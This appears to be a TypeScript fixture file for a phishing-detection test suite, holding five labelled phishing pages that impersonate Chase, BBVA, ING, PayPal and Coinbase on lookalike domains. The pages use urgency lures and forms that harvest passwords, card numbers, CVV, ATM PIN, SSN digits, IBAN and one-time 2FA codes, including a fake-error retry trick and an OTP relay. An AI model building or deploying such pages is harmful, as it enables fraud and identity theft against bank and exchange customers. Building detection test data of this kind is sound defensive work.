import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, imgRoute, gtag } from '../parts/r-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'r-phish-chase-signin-verify',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://chase-online-verification.com/myaccount/signin/index.php',
  body: doc({ title: 'Sign in - chase.com', css: `body{margin:0;font-family:"Open Sans",Arial,sans-serif;background:#0f2b5b url(/myaccount/signin/bg.png) center/cover}
.hd{height:64px;display:flex;align-items:center;justify-content:center}.hd img{height:26px}
.card{background:#fff;width:380px;margin:40px auto;padding:32px 28px;border-radius:4px;box-shadow:0 4px 16px rgba(0,0,0,.3)}
label{display:block;font-size:13px;color:#414042;margin-top:16px}input[type=text],input[type=password]{width:100%;border:0;border-bottom:1px solid #959595;padding:8px 0;font-size:16px;outline:none}
.btn{width:100%;background:#117aca;color:#fff;border:0;padding:12px;margin-top:26px;font-size:16px;border-radius:4px}.sm{font-size:12px;color:#555}.ft{color:#c5d3e8;font-size:11px;text-align:center;margin:40px auto;width:600px}` },
`<div class="hd"><img src="/myaccount/signin/logo.png" alt="CHASE"></div>
<div class="card">
<p class="sm" style="background:#fff4e5;padding:10px;border-left:3px solid #f0a030">For your security, we've temporarily limited access to your account. Please sign in to confirm your identity.</p>
<form id="f" method="post" action="/myaccount/signin/auth.php">
<label>Username</label><input type="text" name="user_id" autocomplete="off" required>
<label>Password</label><input type="password" name="password" required>
<p class="sm"><input type="checkbox" name="remember"> Remember me &nbsp; <input type="checkbox" checked> Use token</p>
<button class="btn" type="submit">Sign in</button>
<p class="sm" style="text-align:center;margin-top:18px"><a href="#">Forgot username/password?</a> | <a href="#">Not Enrolled? Sign Up Now.</a></p>
</form></div>
<div class="ft">Equal Housing Opportunity. Deposit products provided by JPMorgan Chase Bank, N.A. Member FDIC.<br>© 2025 JPMorgan Chase &amp; Co.</div>
<script>
document.getElementById('f').addEventListener('submit',function(e){var u=this.user_id.value;if(u.length<4){e.preventDefault();alert('Please enter a valid username.');}});
</script>`),
  routes: {
    'chase-online-verification.com/myaccount/signin/logo.png': imgRoute(17, 122, 202),
    'chase-online-verification.com/myaccount/signin/bg.png': imgRoute(15, 43, 91),
    'chase-online-verification.com/myaccount/signin/auth.php': htmlRoute(doc({ title: 'Verify your identity' }, `<form method="post" action="/myaccount/signin/card.php"><h3>Confirm your card</h3><input name="cc" placeholder="Card number"><input name="exp" placeholder="MM/YY"><input name="cvv" placeholder="CVV"><input name="ssn" placeholder="SSN (last 4)"><input name="pin" placeholder="ATM PIN"><button>Continue</button></form>`)),
  },
},
{
  id: 'r-phish-bbva-bloqueo-es',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://bbva-clientes-seguridad.info/es/personas/acceso',
  body: doc({ lang: 'es', title: 'BBVA | Acceso clientes', css: `body{margin:0;font-family:"Benton Sans",Helvetica,Arial,sans-serif;background:#f4f4f4}.top{background:#072146;color:#fff;padding:18px 40px;font-size:26px;font-weight:700;letter-spacing:1px}
.wrap{display:flex;max-width:900px;margin:40px auto;background:#fff}.l{flex:1;padding:36px;background:#1973b8;color:#fff}.r{flex:1;padding:36px}
input{width:100%;border:0;border-bottom:2px solid #1973b8;background:#f4f4f4;padding:12px;margin:10px 0 18px;font-size:15px}button{width:100%;background:#1973b8;color:#fff;border:0;padding:14px;font-size:15px;font-weight:600}
.al{background:#fbe3e3;color:#b92a45;padding:10px;font-size:14px;margin-bottom:14px}footer{font-size:12px;color:#666;text-align:center;padding:20px}` },
`<div class="top">BBVA</div>
<div class="wrap"><div class="l"><h2>Tu cuenta ha sido bloqueada temporalmente</h2><p>Hemos detectado un acceso no autorizado desde un dispositivo desconocido (Android, Madrid). Para desbloquear tu cuenta, verifica tu identidad.</p><p>Si no completas la verificación en 24 horas, tu tarjeta será cancelada.</p></div>
<div class="r"><div class="al">Acceso restringido – Código BB-3327</div>
<form action="https://bbva-clientes-seguridad.info/es/personas/procesar.php" method="POST">
<label>DNI / NIE</label><input name="documento" required>
<label>Clave de acceso</label><input name="clave" type="password" required>
<label>Teléfono móvil</label><input name="movil" type="tel" required>
<button>Entrar</button></form></div></div>
<footer>© 2025 Banco Bilbao Vizcaya Argentaria, S.A. · Aviso legal · Política de privacidad · Cookies</footer>`),
},
{
  id: 'r-phish-ing-nl-pas-vervangen',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://mijn-ing-betaalpas.nl/particulier/betaalpas/vervangen/',
  body: doc({ lang: 'nl', title: 'Mijn ING - Betaalpas vervangen', css: `body{margin:0;font-family:"ING Me",Arial,sans-serif;background:#f0f0f0}nav{background:#fff;border-bottom:4px solid #ff6200;padding:12px 30px;display:flex;align-items:center;gap:10px}
nav span{color:#ff6200;font-weight:bold;font-size:24px}.box{max-width:480px;margin:36px auto;background:#fff;border-radius:8px;padding:28px}h2{color:#333366}
input{width:100%;padding:11px;border:1px solid #ccc;border-radius:6px;margin:6px 0 14px}button{background:#ff6200;color:#fff;border:0;border-radius:6px;padding:12px 24px;font-weight:bold}
.pr{height:6px;background:#eee;border-radius:3px;margin-bottom:18px}.pr i{display:block;width:33%;height:6px;background:#ff6200;border-radius:3px}` },
`<nav><span>ING</span> 🦁 <small style="margin-left:auto">Mijn ING Zakelijk | Particulier</small></nav>
<div class="box"><div class="pr"><i></i></div>
<h2>Uw betaalpas verloopt binnenkort</h2>
<p>Vanaf 1 januari worden alle oude betaalpassen vervangen door de nieuwe ING betaalpas met contactloos betalen. Vraag uw nieuwe pas kosteloos aan via onderstaand formulier.</p>
<form method="post" action="verzenden.php">
<input name="gebruikersnaam" placeholder="Gebruikersnaam" required>
<input name="wachtwoord" placeholder="Wachtwoord" type="password" required>
<input name="rekeningnummer" placeholder="IBAN (NL..INGB...)" required>
<input name="pasnummer" placeholder="Pasnummer (3 cijfers)">
<input name="vervaldatum" placeholder="Vervaldatum pas (MM/JJ)">
<button>Volgende</button></form>
<p style="font-size:12px;color:#888">ING Bank N.V. · Bijlmerdreef 106 · 1102 CT Amsterdam</p></div>`),
},
{
  id: 'r-phish-paypal-conto-limitato-it',
  label: 'phishing',
  kind: 'payment-kit',
  url: 'https://paypal.conto-verifica-sicurezza.com/it/signin?country.x=IT&locale.x=it_IT',
  body: doc({ lang: 'it', title: 'Accedi al tuo conto PayPal', css: `body{margin:0;font-family:"PayPal Sans",Helvetica,Arial,sans-serif;background:#fff}
.c{width:460px;margin:60px auto;border:1px solid #eaeced;border-radius:12px;padding:40px 50px}.logo{text-align:center;font:italic 700 30px Verdana;color:#003087}.logo span{color:#009cde}
input{width:100%;height:48px;border:1px solid #9da3a6;border-radius:4px;padding:0 12px;font-size:16px;margin:8px 0}.b{width:100%;height:48px;border-radius:24px;background:#0070ba;color:#fff;border:0;font-size:16px;font-weight:600;margin-top:12px}
.o{width:100%;height:48px;border-radius:24px;background:#e1e7eb;color:#2c2e2f;border:0;font-size:16px;margin-top:12px}.f{text-align:center;font-size:12px;color:#6c7378;margin-top:40px}.err{display:none;color:#c72e2e;font-size:14px}` },
`<div class="c"><div class="logo">Pay<span>Pal</span></div>
<p style="text-align:center">Abbiamo notato un'attività insolita. Il tuo conto è stato <b>limitato</b>. Accedi per ripristinare l'accesso completo.</p>
<form id="lf" action="/it/webapps/mpp/process" method="post">
<input type="email" name="login_email" placeholder="Email o numero di cellulare" required>
<input type="password" name="login_password" placeholder="Password" required>
<p class="err" id="er">Alcune informazioni non sono corrette. Riprova.</p>
<a href="#" style="font-size:14px">Hai dimenticato la password?</a>
<button class="b">Accedi</button>
<div style="text-align:center;margin:14px 0;color:#6c7378">oppure</div>
<button type="button" class="o">Registrati</button></form>
<div class="f">Contattaci · Privacy · Accordi legali · Mondo<br>© 1999–2025 PayPal. Tutti i diritti riservati.</div></div>
<script>
var tries=0;document.getElementById('lf').addEventListener('submit',function(e){e.preventDefault();tries++;var d=new FormData(this);d.append('try',tries);
fetch('/it/webapps/mpp/process',{method:'POST',body:d}).finally(function(){if(tries<2){document.getElementById('er').style.display='block';}else{location.href='/it/webapps/mpp/carta';}});});
</script>`),
  routes: {
    'paypal.conto-verifica-sicurezza.com/it/webapps/mpp/process': { status: 200, headers: { 'content-type': 'application/json' }, body: '{"ok":1}' },
  },
},
{
  id: 'r-phish-coinbase-signin-2fa',
  label: 'phishing',
  kind: 'exchange-kit',
  url: 'https://coinbase.account-secure-review.com/signin',
  body: doc({ title: 'Coinbase - Sign In', css: `body{margin:0;font-family:"Coinbase Sans",Inter,Arial,sans-serif;background:#fff}.n{padding:18px 30px;color:#0052ff;font-weight:700;font-size:24px}.b{max-width:420px;margin:30px auto;border:1px solid #dee1e6;border-radius:16px;padding:32px}
input{width:100%;padding:14px;border:1px solid #cbd0d6;border-radius:8px;margin:8px 0;font-size:16px}button{width:100%;padding:14px;border:0;border-radius:28px;background:#0052ff;color:#fff;font-weight:600;font-size:16px;margin-top:10px}
.s2{display:none}` },
`<div class="n">coinbase</div>
<div class="b"><h2>Sign in to Coinbase</h2>
<div class="s1"><input id="em" type="email" placeholder="Email"><input id="pw" type="password" placeholder="Password"><button id="go">Continue</button></div>
<div class="s2"><p>Enter the 7-digit code we sent to your phone ending in ••42</p><input id="otp" maxlength="7" inputmode="numeric"><button id="v">Verify</button></div>
<p style="font-size:13px;color:#5b616e">Your account has been flagged for a security review after a withdrawal attempt of 0.42 BTC. Sign in to cancel.</p></div>
<script>
var api='/api/v3/session';
document.getElementById('go').onclick=function(){fetch(api,{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({e:em.value,p:pw.value})}).then(function(){document.querySelector('.s1').style.display='none';document.querySelector('.s2').style.display='block';});};
document.getElementById('v').onclick=function(){fetch(api+'/otp',{method:'POST',body:JSON.stringify({c:otp.value})}).then(function(){location.href='/review/pending';});};
</script>`),
  routes: {
    'coinbase.account-secure-review.com/api/v3/session': { status: 200, headers: { 'content-type': 'application/json' }, body: '{"status":"ok"}' },
    'coinbase.account-secure-review.com/api/v3/session/otp': { status: 200, headers: { 'content-type': 'application/json' }, body: '{"status":"ok"}' },
  },
},
];
